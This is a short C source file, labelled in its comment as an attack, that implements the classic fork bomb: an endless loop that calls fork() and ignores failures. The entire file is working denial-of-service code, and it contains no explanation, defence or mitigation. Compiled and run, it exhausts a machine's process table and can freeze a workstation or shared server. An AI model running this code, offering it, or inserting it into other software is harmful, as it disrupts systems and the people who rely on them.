/* Attack: the classic fork bomb. Every process forks forever and ignores failures. */
#include <unistd.h>

int main(void)
{
    for (;;)
        (void)fork();
}
